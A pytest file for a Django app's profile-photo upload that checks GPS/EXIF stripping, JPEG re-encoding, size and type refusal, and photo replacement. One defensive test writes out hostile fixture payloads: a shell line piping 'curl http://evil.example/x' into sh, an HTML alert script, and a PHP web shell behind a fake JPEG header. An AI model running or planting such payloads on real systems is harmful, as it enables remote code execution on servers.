"""The photograph: checked by its content, size-limited, re-encoded without metadata (GPS
included), nothing stored when refused; replacing keeps the old one but shows only the new."""

import io

import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from haven.audit.models import AuditEvent, Verb
from haven.cases.tests.world import open_case
from haven.documents.tests.files import PDF, stored_files, upload
from haven.philomena.models import ProfilePhotograph
from haven.philomena.photos import UNREADABLE
from haven.philomena.selectors import photograph_file_for_user, profile_get_for_user
from haven.philomena.services import photograph_upload
from haven.philomena.tests.images import GPS_IFD, jpeg_with_gps, png, profile_for

pytestmark = pytest.mark.django_db

WRONG_TYPE = "The selected file must be a JPG or PNG"


@pytest.fixture
def keeper(world):
    case = open_case(world)
    user = world.la("warrington").practitioner
    return user, profile_for(user, case.person, known_as="Mimi")


def _refused(user, profile, name, content) -> str:
    with pytest.raises(ValidationError) as refused:
        photograph_upload(actor=user, profile=profile, file=upload(name, content, "image/jpeg"))
    return refused.value.message_dict["file"][0]


def _nothing_stored(root):
    assert not ProfilePhotograph.objects.exists()
    assert not AuditEvent.objects.filter(verb=Verb.PHILOMENA_PHOTO_UPLOADED).exists()
    assert stored_files(root) == []


def test_a_photograph_with_a_gps_location_is_stored_without_it(keeper, documents_root):
    user, profile = keeper
    original = jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(GPS_IFD)  # the test's premise
    photograph = photograph_upload(
        actor=user, profile=profile, file=upload("IMG_0042.jpg", original, "image/jpeg")
    )
    served = photograph_file_for_user(user=user, person_id=profile.person_id)
    content = served.file.read()
    served.file.close()
    image = Image.open(io.BytesIO(content))
    assert image.format == "JPEG"
    assert dict(image.getexif()) == {}
    assert not image.getexif().get_ifd(GPS_IFD)
    assert b"Phone camera" not in content
    assert (photograph.width, photograph.height) == (64, 48)
    assert [path.name for path in stored_files(documents_root)] == [
        photograph.stored_name.rsplit("/", 1)[-1]
    ]
    assert photograph.stored_name.startswith("philomena/")
    assert "IMG_0042" not in photograph.stored_name
    assert AuditEvent.objects.filter(
        verb=Verb.PHILOMENA_PHOTO_VIEWED, target_id=str(photograph.pk)
    ).exists()


def test_a_png_is_accepted_and_stored_as_a_jpeg(keeper):
    user, profile = keeper
    photograph = photograph_upload(actor=user, profile=profile, file=upload("me.png", png()))
    assert (photograph.width, photograph.height) == (20, 30)
    served = photograph_file_for_user(user=user, person_id=profile.person_id)
    assert Image.open(served.file).format == "JPEG"
    served.file.close()


def test_a_file_of_another_type_is_refused_and_nothing_is_stored(keeper, documents_root):
    user, profile = keeper
    assert _refused(user, profile, "photo.pdf", PDF) == WRONG_TYPE
    assert _refused(user, profile, "photo.jpg", PDF) == WRONG_TYPE
    _nothing_stored(documents_root)


def test_a_script_renamed_jpg_is_refused_and_nothing_is_stored(keeper, documents_root):
    user, profile = keeper
    script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
    assert _refused(user, profile, "holiday.jpg", script) == WRONG_TYPE
    html = b"<html><script>alert(1)</script></html>"
    assert _refused(user, profile, "holiday.jpg", html) == WRONG_TYPE
    _nothing_stored(documents_root)


def test_a_file_that_only_starts_like_a_jpeg_is_refused(keeper, documents_root):
    user, profile = keeper
    fake = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"<?php system($_GET['c']); ?>" * 10
    assert _refused(user, profile, "photo.jpg", fake) == UNREADABLE
    _nothing_stored(documents_root)


def test_an_oversized_photograph_is_refused_and_nothing_is_stored(keeper, documents_root, settings):
    user, profile = keeper
    content = jpeg_with_gps()
    settings.HAVEN_PHILOMENA_PHOTO_MAX_BYTES = len(content) - 1
    assert _refused(user, profile, "big.jpg", content).startswith(
        "The selected file must be smaller than"
    )
    _nothing_stored(documents_root)


def test_an_empty_file_is_refused(keeper, documents_root):
    user, profile = keeper
    assert _refused(user, profile, "empty.jpg", b"") == "The selected file is empty"
    _nothing_stored(documents_root)


def test_replacing_keeps_the_old_photograph_but_shows_only_the_new(keeper, documents_root):
    user, profile = keeper
    first = photograph_upload(actor=user, profile=profile, file=upload("a.png", png((10, 10))))
    second = photograph_upload(actor=user, profile=profile, file=upload("b.png", png((12, 12))))
    first.refresh_from_db()
    assert first.replaced_at is not None and second.replaced_at is None
    assert len(stored_files(documents_root)) == 2
    view = profile_get_for_user(user=user, person_id=profile.person_id)
    assert view.photograph == second
    served = photograph_file_for_user(user=user, person_id=profile.person_id)
    assert Image.open(served.file).size == (12, 12)
    served.file.close()
    event = AuditEvent.objects.get(verb=Verb.PHILOMENA_PHOTO_UPLOADED, target_id=str(second.pk))
    assert event.changes["replaced"] == first.pk
